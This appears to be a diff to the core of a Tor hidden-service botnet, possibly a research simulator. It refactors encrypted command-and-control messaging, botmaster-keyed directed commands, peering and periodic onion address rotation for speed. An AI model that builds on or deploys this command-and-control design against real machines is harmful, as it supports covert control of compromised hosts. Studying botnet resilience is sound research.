@@ -1,6 +1,7 @@
 package core
 
 import (
+	"bytes"
 	"crypto/ecdh"
 	"crypto/ed25519"
 	"fmt"
@@ -140,11 +141,15 @@ type Bot struct {
 	masterSignPub ed25519.PublicKey
 	masterEncPub  *ecdh.PublicKey
 	netKey        []byte // network-wide sealing key, baked in at infection
+	netSeal       *botcrypto.SealKey
 	ccOnion       string // hardcoded C&C rally address
 
-	kb       []byte // K_B shared with the botmaster
-	identity *tor.Identity
-	hs       *tor.HiddenService
+	kb        []byte // K_B shared with the botmaster
+	kbSeal    *botcrypto.SealKey
+	identity  *tor.Identity
+	hs        *tor.HiddenService
+	hostedFor uint64 // rotation period the current identity was derived for
+	sealBuf   [botcrypto.SealedSize]byte
 
 	peers   map[string]*peerInfo
 	pending map[string]*tor.Conn // dialed, awaiting PEER_ACK
@@ -177,6 +182,11 @@ type Bot struct {
 	// sibling virtual nodes behind this one see it too.
 	ProbeKey []byte
 	OnProbe  func(inner []byte)
+
+	// probeSeal caches the expanded sealing session for ProbeKey,
+	// rebuilt whenever the key is set or swapped.
+	probeSeal    *botcrypto.SealKey
+	probeSealSrc []byte
 }
 
 type proofEntry struct {
@@ -222,6 +232,8 @@ func NewBotOnProxy(proxy *tor.OnionProxy, net *tor.Network, cfg BotConfig, maste
 	b.guard = botcrypto.NewReplayGuard(b.cfg.ReplayWindow)
 	b.groups = botcrypto.NewGroupKeyring()
 	b.kb = b.drbg.Bytes(botcrypto.BotKeySize)
+	b.netSeal = botcrypto.NewSealKey(b.netKey)
+	b.kbSeal = botcrypto.NewSealKey(b.kb)
 	if err := b.hostCurrentIdentity(); err != nil {
 		return nil, err
 	}
@@ -240,6 +252,7 @@ func (b *Bot) hostCurrentIdentity() error {
 	}
 	b.identity = id
 	b.hs = hs
+	b.hostedFor = ip
 	return nil
 }
 
@@ -378,7 +391,7 @@ func (b *Bot) onCCReply(raw []byte) {
 	if !b.alive {
 		return
 	}
-	plain, err := botcrypto.Open(b.netKey, raw)
+	plain, err := b.netSeal.Open(raw)
 	if err != nil {
 		return
 	}
@@ -427,18 +440,30 @@ func (b *Bot) requestPeering(onion string) {
 	}
 }
 
+// probeSealKey returns the cached sealing session for ProbeKey,
+// rebuilding it when the key is first set or swapped by the SuperOnion
+// host.
+func (b *Bot) probeSealKey() *botcrypto.SealKey {
+	if b.probeSeal == nil || !bytes.Equal(b.probeSealSrc, b.ProbeKey) {
+		b.probeSeal = botcrypto.NewSealKey(b.ProbeKey)
+		b.probeSealSrc = append([]byte(nil), b.ProbeKey...)
+	}
+	return b.probeSeal
+}
+
 // onInboundConn wires up an anonymous inbound connection.
 func (b *Bot) onInboundConn(conn *tor.Conn) {
 	conn.SetHandler(func(msg []byte) { b.onMessage(conn, msg) })
 }
 
-// sendEnvelope seals and transmits an envelope on a connection.
+// sendEnvelope seals and transmits an envelope on a connection. The
+// seal goes into a per-bot scratch cell: the transport copies payload
+// bytes into wire cells immediately, so nothing retains the buffer.
 func (b *Bot) sendEnvelope(conn *tor.Conn, env *Envelope) error {
-	sealed, err := botcrypto.Seal(b.netKey, env.Encode(), b.drbg)
-	if err != nil {
+	if err := b.netSeal.SealSizedInto(b.sealBuf[:], env.Encode(), b.drbg); err != nil {
 		return err
 	}
-	return conn.Send(sealed)
+	return conn.Send(b.sealBuf[:])
 }
 
 func (b *Bot) newMsgID() [16]byte {
@@ -452,10 +477,10 @@ func (b *Bot) onMessage(conn *tor.Conn, raw []byte) {
 	if !b.alive {
 		return
 	}
-	plain, err := botcrypto.Open(b.netKey, raw)
+	plain, err := b.netSeal.Open(raw)
 	if err != nil {
 		// Not a network envelope; try a direct command sealed to K_B.
-		if inner, derr := botcrypto.Open(b.kb, raw); derr == nil {
+		if inner, derr := b.kbSeal.Open(raw); derr == nil {
 			b.handleDirectedPlain(inner)
 		}
 		return
@@ -668,12 +693,12 @@ func (b *Bot) handleDirected(env *Envelope) {
 		return
 	}
 	b.markSeen(env.MsgID)
-	if inner, err := botcrypto.OpenSized(b.kb, env.Payload, DirectedSealSize); err == nil {
+	if inner, err := b.kbSeal.OpenSized(env.Payload, DirectedSealSize); err == nil {
 		b.handleDirectedPlain(inner)
 		return
 	}
 	if b.ProbeKey != nil && b.OnProbe != nil {
-		if inner, err := botcrypto.OpenSized(b.ProbeKey, env.Payload, DirectedSealSize); err == nil {
+		if inner, err := b.probeSealKey().OpenSized(env.Payload, DirectedSealSize); err == nil {
 			b.OnProbe(inner)
 			// Fall through: the probe must keep flooding.
 		}
@@ -832,10 +857,12 @@ func (b *Bot) gossipNoN() {
 }
 
 // maybeRotate rotates the bot's address when the period has advanced.
+// The derivation is a pure function of (K_B, period), so comparing the
+// period the current identity was hosted for is equivalent to deriving
+// the candidate identity and comparing addresses — without paying an
+// Ed25519 key generation per tick.
 func (b *Bot) maybeRotate() {
-	ip := botcrypto.PeriodIndex(b.net.Now())
-	cur := botcrypto.DeriveIdentity(b.masterSignPub, b.kb, ip)
-	if cur.Onion() != b.Onion() {
+	if botcrypto.PeriodIndex(b.net.Now()) != b.hostedFor {
 		b.rotate()
 	}
 }
